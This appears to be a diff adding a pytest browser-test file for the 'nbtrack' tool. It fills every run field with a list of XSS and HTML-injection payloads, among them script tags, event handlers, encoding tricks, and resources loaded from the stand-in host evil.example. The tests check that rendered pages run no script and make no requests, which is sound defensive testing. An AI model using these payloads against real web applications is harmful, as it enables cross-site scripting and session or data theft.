@@ -1,0 +1,202 @@
+"""Hostile text in every field a user or a file can fill: it is shown, and nothing else happens."""
+
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from nbtrack.export.page import write_comparison
+from nbtrack.model.run import Run
+from nbtrack.query.compare import diff
+from nbtrack.view.card import run_card
+from nbtrack.view.comparison import comparison_html
+from nbtrack.view.difference import difference
+from nbtrack.view.listing import listing
+
+pytestmark = pytest.mark.browser
+
+_CALL = "window.__pwned=1"
+_PAYLOADS = [
+    f"<script>{_CALL}</script>",
+    f"</script><script>{_CALL}</script>",
+    f"</style><script>{_CALL}</script>",
+    f"</title><script>{_CALL}</script>",
+    f"</textarea><script>{_CALL}</script>",
+    f"--><script>{_CALL}</script><!--",
+    f"<!--<script>{_CALL}//-->",
+    f"]]><script>{_CALL}</script>",
+    f"<SCRIPT>{_CALL}</SCRIPT>",
+    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
+    f"<script type=module>{_CALL}</script>",
+    "<script src=https://evil.example/x.js></script>",
+    "<script src=//evil.example/x.js></script>",
+    f"<img src=x onerror={_CALL}>",
+    f"<img src=x onerror='{_CALL}'>",
+    f'"><img src=x onerror={_CALL}>',
+    f"'><img src=x onerror={_CALL}>",
+    f"` onerror={_CALL} `",
+    f'" onmouseover="{_CALL}" x="',
+    f"' onmouseover='{_CALL}' x='",
+    f'" autofocus onfocus="{_CALL}" x="',
+    "<img src=https://evil.example/pixel.png>",
+    "<img srcset='https://evil.example/pixel.png 1x'>",
+    f"<svg onload={_CALL}>",
+    f"<svg><script>{_CALL}</script></svg>",
+    f"<svg><animate onbegin={_CALL} attributeName=x></svg>",
+    "<svg><use href=https://evil.example/x.svg#a></svg>",
+    f"<math><mtext><script>{_CALL}</script></mtext></math>",
+    f"<body onload={_CALL}>",
+    f"<iframe srcdoc='<script>parent.{_CALL}</script>'></iframe>",
+    f"<iframe src='javascript:parent.{_CALL}'></iframe>",
+    "<iframe src=https://evil.example/></iframe>",
+    "<object data=https://evil.example/x.swf></object>",
+    "<embed src=https://evil.example/x>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<base href=https://evil.example/>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<form action=https://evil.example/><button>go</button></form>",
+    f"<a href='javascript:{_CALL}'>x</a>",
+    f"<details open ontoggle={_CALL}>",
+    f"<video src=x onerror={_CALL}></video>",
+    f"<audio src=x onerror={_CALL}></audio>",
+    f"<input autofocus onfocus={_CALL}>",
+    f"<select autofocus onfocus={_CALL}>",
+    f"<marquee onstart={_CALL}>",
+    f"<template><script>{_CALL}</script></template>",
+    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
+    f"&#60;script&#62;{_CALL}&#60;/script&#62;",
+    f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e",
+    f"\\x3cscript\\x3e{_CALL}\\x3c/script\\x3e",
+    f"%3Cscript%3E{_CALL}%3C/script%3E",
+    f"{{{{ {_CALL} }}}} {{% raw %}} ${{{_CALL}}} #{{{_CALL}}}",
+    f'");{_CALL};("',
+    f"');{_CALL};('",
+    f"\u2028{_CALL}\u2029",
+    f"\x00<script>{_CALL}</script>\x1b[31m",
+    f"\u202e<script>{_CALL}</script>\u202c",
+    f"\ud83d<script>{_CALL}</script>",
+    "url(https://evil.example/x)",
+    "red;background:url(https://evil.example/x)",
+    "constructor",
+    "__proto__",
+    f"<button data-commandlinker-command='terminal:create-new' onclick={_CALL}>x</button>",
+    f"+ADw-script+AD4-{_CALL}+ADw-/script+AD4-",
+]
+
+
+def _hostile(make_run: Callable[..., Run], number: int, text: str) -> Run:
+    """Return a run with ``text`` in every place that holds a string."""
+    return make_run(
+        number,
+        {f"loss {text}": [1.0, 0.5, 0.25 + number / 1000]},
+        name=text,
+        experiment=text,
+        note=text,
+        status=("finished", "failed")[number % 2],
+        params={
+            text: number,
+            f"value {number % 3}": text,
+            "nested": {text: [text]},
+            "described": {"$repr": text, "type": text},
+        },
+        metrics={text: number / 7, "words": text},
+        tags={text: text, "team": text},
+        sources={"params": {text: text}, "metrics": {text: text}},
+        cell={
+            "source": f"x = {number}\n{text}\ny",
+            "id": text,
+            "count": 1,
+            "hash": text,
+            "line": text,
+            "overrides": {text: text},
+        },
+        artifacts=[{"name": text, "sha256": text, "size": 1, "media_type": text}],
+        warnings=[text],
+        error={"type": text, "message": text, "traceback": text},
+        notebook=text,
+        hardware={text: text},
+    )
+
+
+@pytest.fixture(scope="module")
+def hostile(make_run: Callable[..., Run]) -> list[Run]:
+    return [_hostile(make_run, number, text) for number, text in enumerate(_PAYLOADS)]
+
+
+def _harmless(watched: Any) -> None:
+    assert (watched.page.evaluate("window.__pwned"), watched.dialogs, watched.requests, watched.problems) == (
+        None,
+        [],
+        [],
+        [],
+    )
+    assert (
+        watched.page.locator(
+            "iframe, object, embed, form, base, [onerror], [onload], [onfocus], [onclick], img"
+        ).count()
+        == 0
+    )
+
+
+def _used(page: Any) -> None:
+    """Do what a person does: open every view, point, filter, select two, diff."""
+    for box in page.locator(".nbt-grid tbody input").all()[:2]:
+        box.check()
+    for view in ("Parallel", "Scatter", "Curves", "Diff", "Table"):
+        page.get_by_role("tab", name=view).click()
+        for plot in page.locator("svg.nbt-plot").all():
+            plot.hover(position={"x": 200, "y": 150})
+            plot.focus()
+            for _ in range(4):
+                page.keyboard.press("ArrowRight")
+        for select in page.locator(".nbt-controls select").all():
+            select.select_option(index=1)
+    page.locator(".nbt-filter").fill("<img src=x onerror=window.__pwned=1> script<1")
+
+
+def test_a_page_of_hostile_runs_does_nothing_but_show_them(hostile: list[Run], open_page: Any, tmp_path: Path) -> None:
+    watched = open_page(write_comparison(hostile, tmp_path / "x.html", _PAYLOADS[1]).as_uri())
+    watched.page.wait_for_selector("[role=tablist]")
+    assert watched.page.locator(".nbt-grid tbody .nbt-name").count() == len(_PAYLOADS)
+    _used(watched.page)
+    _harmless(watched)
+
+
+def test_a_saved_output_without_any_policy_does_nothing_either(
+    hostile: list[Run], open_page: Any, tmp_path: Path
+) -> None:
+    outputs = [comparison_html(hostile, _PAYLOADS[0]).html, listing(hostile).html]
+    outputs += [run_card(run, hostile[number - 1]).html for number, run in enumerate(hostile)]
+    outputs += [difference(diff(hostile[number - 1], run)).html for number, run in enumerate(hostile)]
+    path = tmp_path / "notebook.html"
+    path.write_text(f"<!doctype html><meta charset=utf-8>{''.join(outputs)}", encoding="utf-8")
+    watched = open_page(path.as_uri())
+    watched.page.wait_for_selector("[role=tablist]")
+    _used(watched.page)
+    for details in watched.page.locator("details summary").all()[:20]:
+        details.click()
+    _harmless(watched)
+
+
+@pytest.mark.parametrize("scripts", [True, False])
+def test_hostile_text_can_be_read_as_it_was_written(
+    hostile: list[Run], open_page: Any, tmp_path: Path, *, scripts: bool
+) -> None:
+    path = write_comparison(hostile, tmp_path / "x.html", "x")
+    page = open_page(path.as_uri(), java_script_enabled=scripts).page
+    cells = page.locator(".nbt-grid tbody .nbt-name" if scripts else "tbody th").all_text_contents()
+    plain = {text for text in _PAYLOADS if text.isprintable() and len(text) < 60}
+    assert plain <= set(cells)
+
+
+def test_the_page_carries_its_policy_and_the_browser_enforces_it(
+    hostile: list[Run], open_page: Any, tmp_path: Path
+) -> None:
+    watched = open_page(write_comparison(hostile[:2], tmp_path / "x.html", "x").as_uri())
+    watched.page.evaluate(
+        "() => { const s = document.createElement('script'); s.textContent = 'window.__pwned = 1'; document.body.append(s); }"
+    )
+    assert watched.page.evaluate("window.__pwned") is None
+    assert "Content Security Policy" in watched.problems[0]
